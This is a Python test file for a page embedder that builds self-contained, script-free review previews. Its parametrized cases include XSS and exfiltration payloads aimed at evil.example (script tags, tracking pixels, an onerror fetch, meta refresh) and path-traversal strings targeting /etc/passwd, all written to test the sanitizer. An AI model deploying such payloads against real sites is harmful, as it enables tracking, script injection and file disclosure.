"""A published page → a document that needs nothing else: its styles and pictures stand in it, and nothing runs."""

import base64
import re
from dataclasses import replace

import pytest
from tests.reviewing.pages import BASE, EMPTY, FILES, FULL, asset, html

from handbill.reviewing.embed import POLICY, Embedder, embedders


def document(body: str = "<p>Un pot.</p>", head: str = "", address: str = "/posts/pot/") -> str:
    return Embedder(BASE, lambda path: asset("after", path)).document(html(body, head), address)


def held(path: str) -> str:
    return base64.b64encode(FILES[path]).decode()


def test_the_policy_stands_before_anything_that_was_written_elsewhere():
    """What a page says before it could otherwise run, or ask for something."""
    assert document().startswith(f'<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{POLICY}">')


def test_the_policy_of_the_page_itself_is_left_out():
    """It allows files of the hub's own origin, and would hide the styles that stand in the document."""
    assert 1 == document().count("Content-Security-Policy")


def test_a_style_sheet_stands_in_the_document_with_what_it_brings():
    """Offline, a page without its style sheet looks like none that members will see."""
    text = document()

    assert "<style>" in text
    assert "p { color: green }" in text
    assert f'background: url("data:image/png;base64,{held("media/paper.png")}")' in text


def test_a_style_sheet_cannot_end_the_element_in_which_it_stands():
    """A word in a style could otherwise become a script of its own."""
    assert "</style><script>" not in document()
    assert "<\\/style>" in document()


def test_a_picture_stands_in_the_document_in_a_size_that_is_sharp_on_a_telephone():
    """A page of the demo names eight sizes of a picture; one is enough."""
    text = document(
        '<picture><source type="image/webp" srcset="/hub/media/pot.png.400.webp 400w, /hub/media/pot.png.1200.webp 1200w">'
        '<img src="../../media/pot.png" alt="Un pot" width="8"></picture>'
    )

    assert f"data:image/png;base64,{base64.b64encode(FILES['media/pot.png.1200.webp']).decode()}" not in text
    assert f'src="data:image/webp;base64,{held("media/pot.png.1200.webp")}"' in text
    assert 'alt="Un pot"' in text
    assert "srcset" not in text


def test_a_picture_of_the_page_itself_is_found_from_where_the_page_is():
    """Pictures in a text are named by their place beside it."""
    assert f'src="data:image/png;base64,{held("media/pot.png")}"' in document('<img src="../../media/pot.png" alt="">')


def test_letters_name_their_pictures_by_whole_addresses():
    """A mail has no place from which to look."""
    assert f'src="data:image/png;base64,{held("media/pot.png")}"' in document(f'<img src="{BASE}media/pot.png" alt="">')


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
        "<script>never ends",
        '<img src="https://evil.example/pixel.gif" alt="">',
        '<img src="//evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" alt="">',
        "<p style=\"background: url('https://evil.example/x.png')\">x</p>",
        '<p class="a" style="background:url(https://evil.example/x.png)">x</p>',
        "<style>@import url(https://evil.example/x.css); b { background: url(//evil.example/x) }</style>",
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe srcdoc="&lt;script src=https://evil.example/&gt;"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x">',
        '<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4"></video>',
        '<form action="https://evil.example/"><button formaction="https://evil.example/">x</button></form>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '<link rel="preload" href="https://evil.example/x" as="image">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<svg><image href="https://evil.example/x.png"/><use xlink:href="https://evil.example/x.svg#a"/></svg>',
        '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
        '<a href="https://hub.example/" ping="https://evil.example/">x</a>',
        '<img src="x.png" onerror="fetch(\'https://evil.example/\')" alt="">',
    ],
)  # fmt: skip
def test_nothing_in_the_document_names_a_place_to_ask(body):
    """A pixel in a proposal must not tell its author who reviews it, and when."""
    assert "evil.example" not in document(body)


def test_a_link_leads_nowhere_and_says_where_it_would():
    """A reviewer who follows a link of a preview would look at what is published already, and approve it."""
    text = document('<a href="../seau/?a=1&amp;b=2">Le seau</a> <a href="#puits">Le puits</a>')

    assert f'<a href="#" tabindex="-1" title="{BASE}posts/seau/?a=1&amp;b=2">Le seau</a>' in text
    assert '<a href="#puits" tabindex="-1">Le puits</a>' in text


@pytest.mark.parametrize(
    "target",
    [
        "../../../../etc/passwd.png",
        "/etc/passwd.png",
        "file:///etc/passwd.png",
        "https://village.example/other/x.png",
        "%2e%2e/%2e%2e/%2e%2e/x.png",
        "http://[x.png",
        "..\\..\\x.png",
    ],
)
def test_no_path_leads_out_of_what_is_published(target):
    """Whoever gives the files must not be asked for one of the machine."""
    asked: list[str] = []

    Embedder(BASE, lambda path: asked.append(path)).document(f'<img src="{target}" alt="">'.encode(), "/posts/pot/")

    assert [] == [path for path in asked if ".." in path or path.startswith("/") or "etc" in path]


def test_a_heavy_picture_is_shown_by_its_words():
    """One film of two hundred megabytes would make the file one that nobody can open."""
    shown = Embedder(BASE, lambda _: b"x" * 1_500_001).document(b'<img src="a.png" alt="Un puits">', "/")

    assert '<img alt="Un puits">' in shown


def test_what_several_pages_show_is_asked_for_once():
    """Sixty pages of a change have one style sheet."""
    asked: list[str] = []
    embedder = Embedder(BASE, lambda path: asked.append(path) or FILES.get(path))
    for address in ("/a/", "/b/", "/c/"):
        embedder.document(html(), address)

    assert sorted(set(asked)) == sorted(asked)


@pytest.mark.parametrize("piece", ["<!--", "<script", "<style>", '<img src="', "<a b='", "<p style=", "<picture>", '<source srcset="a,'])
def test_the_time_grows_with_the_length_of_a_page_alone(piece):
    """A template of a stranger must not stop a review for an hour."""
    page = piece * 20_000

    # In time that grew with the square of the length, each of these would take several minutes.
    assert len(Embedder(BASE, lambda _: None).document(page.encode(), "/")) < 2 * len(page)


def test_what_is_not_changed_stays_as_it_was_written():
    """A reviewer looks at the page that will be published, not at one that was written again by us."""
    body = '<article lang="fr" class="x"><h1>Pot &amp; seau</h1><svg viewBox="0 0 8 8"><path d="M0 0h8"/></svg></article>'

    assert body in document(body)
    assert "Content-Security" not in re.sub(r"^.*?<html", "", document(), flags=re.DOTALL)


@pytest.mark.parametrize("review", [FULL, replace(FULL, is_whole=False)])
def test_only_what_a_proposal_leaves_as_it_was_is_asked_for_once(review):
    """Making a picture in another size takes a quarter of a second, and most stand on pages of both states."""
    asked: list[tuple[str, str]] = []

    def ask(which: str, path: str) -> bytes | None:
        asked.append((which, path))
        return asset(which, path)

    both = embedders(review, ask)
    body = '<img src="/hub/media/pot.png" alt=""><img src="/hub/media/well.png" alt="">'
    before, after = (both[which].document(html(body), "/") for which in ("before", "after"))

    assert before != after
    assert 2 == sum(path == "media/well.png" for _, path in asked)
    assert (1 if review.is_whole else 2) == sum(path == "media/pot.png" for _, path in asked)


def test_what_stands_in_one_state_alone_is_found_there():
    """A picture that is removed is on the page before."""
    both = embedders(EMPTY, lambda which, _: FILES["media/pot.png"] if which == "before" else None)

    assert "data:image/png" in both["before"].document(b'<img src="x.png" alt="">', "/")
